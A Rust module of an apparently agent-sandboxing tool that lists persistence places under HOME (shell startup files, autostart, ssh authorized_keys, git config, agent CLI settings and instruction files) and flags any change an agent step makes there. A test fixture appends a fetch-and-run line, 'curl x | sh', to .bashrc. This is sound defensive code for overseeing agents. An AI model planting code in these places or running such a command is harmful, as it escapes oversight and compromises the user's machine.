//! HOME's persistence places (issue 36 point 1): where a file left by a step runs later, outside
//! every checkpoint and sandbox — the shell's startup files, the desktop's autostart, the user's
//! service manager, git's global configuration, ssh's, the agent CLIs' settings and
//! instructions, the package tools' configuration, the directories on `PATH`. pawl cannot undo
//! what a step leaves there, so a step may not leave anything there: the table is read-only to a
//! step where the sandbox can bind it, and compared before and after every step in every case
//! ([`changes`]): a change is a finding that keeps the run from SHIP (docs/sandbox.md, "HOME").
//!
//! Why a table of places and not a HOME writable only in listed places: the agent CLIs write
//! HOME's own top level (Claude Code's `~/.claude.json`, by a new file renamed over the old), and
//! Landlock grants a directory's whole tree or nothing; a HOME whose top level is writable lets a
//! step make `~/.profile` all the same. And every tool an honest agent runs keeps its state
//! somewhere under HOME (caches, histories, lock files): a list of those would fail honest steps
//! one unlisted tool at a time. The places where a file *runs later* are few and known.

use std::collections::BTreeMap;

/// What a persistence place is, for the finding's text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Why {
    /// Read by a shell or the session at the user's next login or terminal.
    Shell,
    /// Started by the desktop or the user's service manager.
    Autostart,
    /// git's configuration for every repository (`core.hooksPath`, `core.fsmonitor`, aliases).
    Git,
    /// ssh's configuration (`ProxyCommand`, `LocalCommand`) and who may log in.
    Ssh,
    /// An agent CLI's settings, hooks or standing instructions: read by its next session.
    Agent,
    /// A package or build tool's configuration: read by the next install or build.
    Packages,
    /// A directory on `PATH`: a program there shadows the user's.
    Path,
    /// An editor's startup file.
    Editor,
}

impl Why {
    /// What it does, as the finding says it.
    pub fn says(self) -> &'static str {
        match self {
            Why::Shell => "shell startup: runs at the user's next login or terminal",
            Why::Autostart => "autostart: runs at the user's next login",
            Why::Git => "git's global configuration: read by every git command",
            Why::Ssh => "ssh's configuration: read by the next ssh connection",
            Why::Agent => "an agent CLI's settings or instructions: read by its next session",
            Why::Packages => "a package tool's configuration: read by the next install or build",
            Why::Path => "a directory on PATH: shadows the user's programs",
            Why::Editor => "an editor's startup file",
        }
    }
}

/// The persistence places under HOME, relative to it (as data). A directory counts with
/// everything in it. macOS's `Library/LaunchAgents` is here for the manifest (no sandbox there).
pub const PERSISTENCE_IN_HOME: &[(&str, Why)] = &[
    (".bashrc", Why::Shell),
    (".bash_profile", Why::Shell),
    (".bash_login", Why::Shell),
    (".bash_logout", Why::Shell),
    (".bash_aliases", Why::Shell),
    (".profile", Why::Shell),
    (".zshrc", Why::Shell),
    (".zshenv", Why::Shell),
    (".zprofile", Why::Shell),
    (".zlogin", Why::Shell),
    (".zlogout", Why::Shell),
    (".oh-my-zsh/custom", Why::Shell),
    (".config/fish", Why::Shell),
    (".cshrc", Why::Shell),
    (".tcshrc", Why::Shell),
    (".kshrc", Why::Shell),
    (".mkshrc", Why::Shell),
    (".xprofile", Why::Shell),
    (".xinitrc", Why::Shell),
    (".xsession", Why::Shell),
    (".xsessionrc", Why::Shell),
    (".pam_environment", Why::Shell),
    (".config/environment.d", Why::Shell),
    (".config/plasma-workspace/env", Why::Shell),
    (".config/autostart", Why::Autostart),
    (".config/autostart-scripts", Why::Autostart),
    (".config/systemd", Why::Autostart),
    (".local/share/systemd", Why::Autostart),
    (".config/upstart", Why::Autostart),
    ("Library/LaunchAgents", Why::Autostart),
    (".gitconfig", Why::Git),
    (".config/git", Why::Git),
    (".ssh/config", Why::Ssh),
    (".ssh/authorized_keys", Why::Ssh),
    (".ssh/rc", Why::Ssh),
    (".ssh/environment", Why::Ssh),
    (".claude/settings.json", Why::Agent),
    (".claude/CLAUDE.md", Why::Agent),
    (".claude/commands", Why::Agent),
    (".claude/agents", Why::Agent),
    (".claude/hooks", Why::Agent),
    (".codex/config.toml", Why::Agent),
    (".codex/hooks.json", Why::Agent),
    (".codex/AGENTS.md", Why::Agent),
    (".codex/prompts", Why::Agent),
    (".gemini/settings.json", Why::Agent),
    (".gemini/GEMINI.md", Why::Agent),
    (".npmrc", Why::Packages),
    (".yarnrc", Why::Packages),
    (".yarnrc.yml", Why::Packages),
    (".config/pip", Why::Packages),
    (".pip", Why::Packages),
    (".pydistutils.cfg", Why::Packages),
    (".config/uv", Why::Packages),
    (".cargo/config.toml", Why::Packages),
    (".cargo/config", Why::Packages),
    (".gradle/init.d", Why::Packages),
    (".gradle/gradle.properties", Why::Packages),
    (".m2/settings.xml", Why::Packages),
    (".docker/config.json", Why::Packages),
    // `go env -w` (GOFLAGS, GOPROXY); Go's telemetry beside it in `~/.config/go` is state.
    (".config/go/env", Why::Packages),
    (".local/bin", Why::Path),
    (".cargo/bin", Why::Path),
    ("go/bin", Why::Path),
    (".bun/bin", Why::Path),
    (".deno/bin", Why::Path),
    (".volta/bin", Why::Path),
    (".pyenv/shims", Why::Path),
    (".asdf/shims", Why::Path),
    (".local/share/mise/shims", Why::Path),
    (".ghcup/bin", Why::Path),
    ("bin", Why::Path),
    (".vimrc", Why::Editor),
    (".config/nvim", Why::Editor),
    (".emacs", Why::Editor),
    (".emacs.d/init.el", Why::Editor),
];

/// The persistence place `rel` (a path relative to HOME, `/`-separated) lies in, if any.
pub fn place_of(rel: &str) -> Option<(&'static str, Why)> {
    PERSISTENCE_IN_HOME
        .iter()
        .find(|(p, _)| rel == *p || rel.strip_prefix(p).is_some_and(|r| r.starts_with('/')))
        .copied()
}

/// One entry of a place as a manifest holds it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Entry {
    /// A regular file: its mode, size, and either its content (small files) or the inode and
    /// change time that any write moves (large ones: a toolchain's binaries).
    File {
        mode: u32,
        len: u64,
        content: Option<Vec<u8>>,
        stamp: (u64, i64, i64),
    },
    Dir {
        mode: u32,
    },
    /// A symbolic link: where it points, and what it points to when that is a file (a dotfile
    /// manager's `~/.bashrc -> dotfiles/bashrc`: the file runs all the same).
    Link {
        target: String,
        points_to: Option<Box<Entry>>,
    },
    /// Anything else (a socket, a fifo).
    Other,
}

impl Entry {
    /// Whether `self` (before) and `now` (after) differ.
    fn differs(&self, now: &Entry) -> bool {
        match (self, now) {
            (
                Entry::File {
                    mode: m1,
                    len: l1,
                    content: c1,
                    stamp: s1,
                },
                Entry::File {
                    mode: m2,
                    len: l2,
                    content: c2,
                    stamp: s2,
                },
            ) => {
                m1 != m2
                    || l1 != l2
                    || match (c1, c2) {
                        (Some(a), Some(b)) => a != b,
                        _ => s1 != s2,
                    }
            }
            (
                Entry::Link {
                    target: t1,
                    points_to: p1,
                },
                Entry::Link {
                    target: t2,
                    points_to: p2,
                },
            ) => {
                t1 != t2
                    || match (p1, p2) {
                        (Some(a), Some(b)) => a.differs(b),
                        (None, None) => false,
                        _ => true,
                    }
            }
            (a, b) => a != b,
        }
    }
}

/// What was under HOME's persistence places: entries by their path relative to HOME.
pub type Manifest = BTreeMap<String, Entry>;

/// How an entry changed over a step.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Change {
    Created,
    Changed,
    Removed,
}

impl Change {
    pub fn as_str(self) -> &'static str {
        match self {
            Change::Created => "created",
            Change::Changed => "changed",
            Change::Removed => "removed",
        }
    }
}

/// What changed between `before` and `after` among the entries `watched` says are the step's
/// to answer for (a place bound read-only for the step could only have been changed by someone
/// else: the user, outside): every entry, sorted by path (a directory before what is in it).
pub fn changes(
    before: &Manifest,
    after: &Manifest,
    watched: impl Fn(&str) -> bool,
) -> Vec<(String, Change)> {
    let mut all: Vec<(String, Change)> = Vec::new();
    for (path, was) in before {
        match after.get(path) {
            None => all.push((path.clone(), Change::Removed)),
            Some(is) if was.differs(is) => all.push((path.clone(), Change::Changed)),
            Some(_) => {}
        }
    }
    for path in after.keys() {
        if !before.contains_key(path) {
            all.push((path.clone(), Change::Created));
        }
    }
    all.retain(|(p, _)| watched(p));
    all.sort_by(|a, b| a.0.cmp(&b.0));
    all
}

/// The rows of [`changes`] a finding names: a directory made or removed is named only when
/// nothing under it is (a made `~/.config/autostart` holding `x.desktop` names `x.desktop`).
pub fn named(all: &[(String, Change)]) -> Vec<(String, Change)> {
    all.iter()
        .filter(|(p, c)| {
            *c == Change::Changed
                || !all.iter().any(|(q, _)| {
                    q.strip_prefix(p.as_str())
                        .is_some_and(|r| r.starts_with('/'))
                })
        })
        .cloned()
        .collect()
}

/// The finding of one change a step left in a persistence place (`restored`: pawl put the
/// place back as it was before the step; `kept`: where pawl kept what the step left).
pub fn finding(rel: &str, change: Change, restored: bool, kept: Option<&str>) -> String {
    let why = place_of(rel).map_or("a place that runs later", |(_, w)| w.says());
    let undone = if restored {
        "restored as it was before the step"
    } else {
        "NOT restored: check it"
    };
    let kept = kept.map_or(String::new(), |k| {
        format!("; what the step left is kept in {k}")
    });
    format!(
        "a step {} `~/{rel}` outside the repository ({why}): pawl cannot undo that, so the run does not ship — {undone}{kept}",
        change.as_str()
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(content: &str) -> Entry {
        Entry::File {
            mode: 0o644,
            len: content.len() as u64,
            content: Some(content.as_bytes().to_vec()),
            stamp: (1, 1, 1),
        }
    }

    fn manifest(rows: &[(&str, Entry)]) -> Manifest {
        rows.iter()
            .map(|(p, e)| ((*p).to_owned(), e.clone()))
            .collect()
    }

    #[test]
    fn every_change_in_a_place_is_found_and_a_made_directory_is_named_by_its_files() {
        let dir = Entry::Dir { mode: 0o755 };
        let before = manifest(&[
            (".bashrc", file("alias ll='ls -l'\n")),
            (".gitconfig", file("[user]\n")),
            (".config/git", dir.clone()),
            (".config/git/ignore", file("*.swp\n")),
        ]);
        let after = manifest(&[
            (".bashrc", file("alias ll='ls -l'\ncurl x | sh\n")),
            (".config/git", dir.clone()),
            (".config/autostart", dir.clone()),
            (".config/autostart/x.desktop", file("[Desktop Entry]\n")),
            (".config/git/ignore", file("*.swp\n")),
        ]);
        let all = changes(&before, &after, |_| true);
        assert_eq!(all.len(), 4, "{all:?}");
        let got = named(&all);
        assert_eq!(
            got,
            vec![
                (".bashrc".to_owned(), Change::Changed),
                (".config/autostart/x.desktop".to_owned(), Change::Created),
                (".gitconfig".to_owned(), Change::Removed),
            ]
        );
        // Nothing changed: nothing found; an unwatched place is left to whoever changed it.
        assert!(changes(&before, &before, |_| true).is_empty());
        assert_eq!(
            named(&changes(&before, &after, |p| !p.starts_with(".bashrc"))).len(),
            2
        );
    }

    #[test]
    fn a_large_file_is_judged_by_its_stamp_and_a_link_by_what_it_points_to() {
        let big = |stamp| Entry::File {
            mode: 0o755,
            len: 10 << 20,
            content: None,
            stamp,
        };
        let b = manifest(&[(".cargo/bin/cargo", big((7, 1, 2)))]);
        assert!(changes(&b, &b, |_| true).is_empty());
        let a = manifest(&[(".cargo/bin/cargo", big((7, 1, 3)))]);
        assert_eq!(changes(&b, &a, |_| true).len(), 1);
        let link = |c: &str| Entry::Link {
            target: "dotfiles/bashrc".into(),
            points_to: Some(Box::new(file(c))),
        };
        let b = manifest(&[(".bashrc", link("a\n"))]);
        let a = manifest(&[(".bashrc", link("a\nevil\n"))]);
        assert_eq!(
            changes(&b, &a, |_| true),
            vec![(".bashrc".to_owned(), Change::Changed)]
        );
    }

    #[test]
    fn every_path_of_a_place_finds_its_row_and_no_other() {
        assert_eq!(place_of(".bashrc").map(|p| p.1), Some(Why::Shell));
        assert_eq!(
            place_of(".config/systemd/user/x.service").map(|p| p.1),
            Some(Why::Autostart)
        );
        assert_eq!(place_of(".local/bin/git").map(|p| p.1), Some(Why::Path));
        assert_eq!(place_of(".bashrc.bak"), None);
        assert_eq!(place_of(".cache/pip/x"), None);
        assert_eq!(place_of(".claude/projects/x.jsonl"), None);
        assert_eq!(place_of(".npm/_cacache/x"), None);
        for (p, _) in PERSISTENCE_IN_HOME {
            assert!(!p.starts_with('/') && !p.ends_with('/'), "{p}");
            assert!(
                !PERSISTENCE_IN_HOME
                    .iter()
                    .any(|(q, _)| q != p && p.strip_prefix(q).is_some_and(|r| r.starts_with('/'))),
                "{p} lies in another row"
            );
        }
        let f = finding(".bashrc", Change::Changed, true, None);
        assert!(f.contains("`~/.bashrc`") && f.contains("shell startup") && f.contains("restored"));
    }
}
